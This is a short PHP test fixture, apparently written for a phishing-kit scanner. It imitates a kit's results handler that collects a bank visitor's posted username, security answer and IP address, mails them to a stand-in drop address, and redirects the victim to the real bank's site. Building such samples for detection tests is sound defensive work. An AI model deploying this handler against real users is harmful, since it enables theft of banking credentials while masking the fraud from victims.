<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// a kit's results handler: no field named as a password, the visitor's address glued in,
// mailed to a fixed address, then the victim sent on to the genuine bank's front page
$ip = getenv("REMOTE_ADDR");
$message  = "------ Example Bank ------\n";
$message .= "User : " . $_POST['user'] . "\n";
$message .= "Answer : " . $_POST['answer'] . "\n";
$message .= "IP : " . $ip . "\n";
mail("results-drop@example.net", "bank $ip", $message);
header("Location: https://www.examplebank.test/");
